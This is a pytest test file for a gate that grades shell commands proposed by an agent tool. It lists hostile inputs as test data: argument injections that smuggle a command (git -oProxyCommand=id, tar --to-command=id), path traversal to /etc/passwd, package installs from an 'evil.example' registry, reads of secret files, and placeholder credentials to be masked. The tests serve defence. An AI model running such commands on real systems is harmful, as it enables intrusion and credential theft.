"""Lines an adversarial review found judged too low, and everyday lines that must stay LOW."""

import shlex
import time

import pytest

from byleave.gate import Gate, GateRules, describe, mask_text, safe_text, secret_name, shown_params
from byleave.protocol.tools import TOOLS

pytestmark = pytest.mark.promise("G3", "G5")

GATE = Gate()

REFUSED = """
tail +1f app.log
tail +f app.log
tail +5cf app.log
tail +1lf -- app.log
git submodule--helper foreach id
git merge-index ./x -a
git clone ssh://-oProxyCommand=id/x y
git clone -- -oProxyCommand=id:x y
git submodule add ext::id x
git blame -S /etc/passwd a
git config edit
git ../x
npm exe id
npm exp lodash -- id
npm --nodedir .. install
npm --yes true exec id
npm --color always exec id
python -m http.server -d..
python x.py -o/etc/x
gcc -- -wrapper ./x m.c
tar cf a.tar --exclude-caches-all -Iid src
tar cf a.tar --exclude-caches-all --to-command=id src
tar xf a.tar -s -Iid
tar xf a.tar -sIid
tar --set-mtime-command=id -cf a.tar src
zip a.zip b -li -TTid -T
unzip a.zip -x -d /tmp
unzip a.zip -x y -d /tmp
unzip -- a.zip -d /tmp
unzip -- a.zip -d/tmp
"""

HIGH = """
npm i evil/repo
npm i x@evil/repo
npm --@a:registry=http://evil.example i
node inspect a.js
node debug a.js
"""

MEDIUM = """
cat .env~
cat .env2
cat .envs/.production/.django
cat .docker/config.json
"""

LOW = """
grep -rn TODO src
grep -rnw src -e pattern
grep -n -- --flag a.py
grep -rn /etc/passwd src
find . -path ./node_modules -prune -o -type f -print
find . ( -name a -o -name b ) -type f
tail +5 a.txt
tail -n +10 a
head -n -5 a
cat .env.example
cat .envrc.example
cat .gitignore
cat docs/environment.md
cat src/tokens.ts
"""


def level(line: str) -> str:
    command, *args = shlex.split(line)
    call = {"command": command, "args": args}
    return GATE.judge("execute_command", call, workspace="/ws").verdict.level.value


def lines(text: str) -> list[str]:
    return [line for line in text.splitlines() if line]


@pytest.mark.parametrize("line", lines(REFUSED))
def test_line_that_runs_follows_or_leaves_is_refused(line: str) -> None:
    assert level(line) == "REFUSE"


@pytest.mark.parametrize("line", lines(HIGH))
def test_line_that_fetches_or_opens_a_port_is_high(line: str) -> None:
    assert level(line) == "HIGH"


@pytest.mark.parametrize("line", lines(MEDIUM))
def test_line_that_reads_a_secret_asks(line: str) -> None:
    assert level(line) == "MEDIUM"


@pytest.mark.parametrize("line", lines(LOW))
def test_everyday_line_stays_low(line: str) -> None:
    assert level(line) == "LOW"


def test_everyday_packages_stay_medium() -> None:
    assert {level(line) for line in ("npm i react", "npm i @types/node@20", "npm i ./lib", "npm tes")} <= {
        "MEDIUM",
        "HIGH",
    }
    assert level("npm i @types/node@20") == "MEDIUM"


def test_lines_of_blanks_are_collapsed_like_empty_lines() -> None:
    for blank in ("", " \t", " " * 30, "\u3000"):
        shown = safe_text("first" + f"\n{blank}" * 300 + "\nlast", lines=True)
        assert shown == "first\n[301 line ends]\nlast"


def test_secret_tables_know_backups_of_environment_files() -> None:
    assert all(secret_name(name) for name in (".env~", ".env.bak", ".env-old", ".envrc", "sub/.env.d/x.env"))
    assert not any(secret_name(name) for name in (".env.example", ".envrc.example", "environment.py"))


def test_every_tool_still_has_a_rule() -> None:
    assert all(GATE.judge(name, {}).verdict.findings for name in TOOLS)


@pytest.mark.promise("D")
@pytest.mark.parametrize(
    "text",
    [
        "DB_PASS=s3cr3tpw",
        "db_pass: s3cr3tpw",
        "PASSWORD='pass word1'",
        "PASSWORD=12345678",
        "deploy --password hunter22 now",
        "https://tok0123456789abcdef0123@git.example/x",
        "1:-----BEGIN RSA PRIVATE KEY-----\n2:MIIEpAIBAAKCAQEAabcdefghijklmnop\n3:hunter22hunter22hunter22",
        "a.txt:1:-----BEGIN PRIVATE KEY-----\na.txt:2:MIIEpAIBAAKCAQEAabcdefghijklmnop\n",
        "     1\t-----BEGIN PRIVATE KEY-----\n     2\tMIIEpAIBAAKCAQEAabcdefghijklmnop\n",
    ],
)
def test_secret_is_masked_as_commands_print_it(text: str) -> None:
    shown = mask_text(text)
    assert "[masked:" in shown
    assert not any(part in shown for part in ("s3cr3tpw", "word1", "12345678", "hunter22", "tok0123", "MIIEp"))


@pytest.mark.promise("D")
def test_secret_behind_an_option_is_masked_in_the_record_and_shown_to_who_decides() -> None:
    call = {"command": "python", "args": ["deploy.py", "--api-token", "plainvalue", "--password", "-x", "--name", "n"]}
    judged = GATE.judge("execute_command", call)
    assert judged.params is not None
    assert shown_params("execute_command", judged.params)["args"] == [
        "deploy.py",
        "--api-token",
        "[masked:option]",
        "--password",
        "-x",
        "--name",
        "n",
    ]
    assert "plainvalue" in describe("execute_command", judged.params, judged.verdict)


@pytest.mark.promise("D")
@pytest.mark.parametrize(
    "text", ["--token TOKEN  the token", "pass: 12 tests", "bypass = true", "compass=north1", "ssh://git@host/x"]
)
def test_ordinary_text_is_not_masked(text: str) -> None:
    assert mask_text(text) == text


@pytest.mark.promise("G4")
@pytest.mark.parametrize(
    "args",
    [
        ["clone", ":" * 100_000 + "\n"],
        ["clone", "a:1" * 30_000 + "\n"],
        ["push", "origin", ":" * 100_000 + "\n"],
        ["clone", "a" * 100_000 + "@\n"],
    ],
)
def test_hostile_repository_name_is_judged_at_once(args: list[str]) -> None:
    began = time.process_time()
    GATE.judge("execute_command", {"command": "git", "args": args})
    assert time.process_time() - began < 1


@pytest.mark.promise("G4")
@pytest.mark.parametrize("command", ["tar", "tree", "wget", "python", "du", "grep", "cp", "curl"])
def test_cluster_without_end_is_refused_at_once(command: str) -> None:
    gate = Gate(GateRules(allowed_commands=frozenset({command})))
    for args in ([f"-{'x' * 120_000}"], ["a/" * 60_000], [f"-{'a' * 500}{number}" for number in range(256)]):
        began = time.process_time()
        assert gate.judge("execute_command", {"command": command, "args": args}).verdict.level.value != "LOW"
        assert time.process_time() - began < 0.5


def test_linker_argument_of_many_pieces_is_judged_at_once() -> None:
    began = time.process_time()
    verdict = GATE.judge("execute_command", {"command": "gcc", "args": ["-Wl," + ",-L/x" * 20_000]}).verdict
    assert verdict.refused
    assert time.process_time() - began < 1


@pytest.mark.parametrize(
    ("command", "args"), [("cat", ["{" * 120_000]), ("cat", ["{a," * 40_000]), ("date", ["-d", "TZ=" * 40_000])]
)
def test_argument_full_of_beginnings_is_judged_at_once(command: str, args: list[str]) -> None:
    began = time.process_time()
    GATE.judge("execute_command", {"command": command, "args": args})
    assert time.process_time() - began < 0.5


@pytest.mark.parametrize("argument", ["{a,{b,/etc/passwd}}", "{a{,~}", "{..,b}"])
def test_braces_that_name_a_place_outside_are_refused(argument: str) -> None:
    assert GATE.judge("execute_command", {"command": "cat", "args": [argument]}).verdict.refused


@pytest.mark.parametrize("zone", ["TZ=TZ=../../etc/x", 'TZ="TZ=a/../../x', "TZ=:/etc/x"])
def test_time_zone_outside_is_refused(zone: str) -> None:
    assert GATE.judge("execute_command", {"command": "date", "args": ["-d", zone]}).verdict.refused


@pytest.mark.promise("D")
def test_telling_names_without_end_are_searched_in_linear_time() -> None:
    began = time.process_time()
    mask_text("key=" * 250_000)
    assert time.process_time() - began < 5


@pytest.mark.promise("A")
def test_question_says_that_content_is_not_shown_whole() -> None:
    call = {"path": "a.py", "content": "x" * 16_384 + "payload"}
    judged = GATE.judge("write_file", call)
    assert "7 characters in its middle are not shown" in describe("write_file", judged.params, judged.verdict)
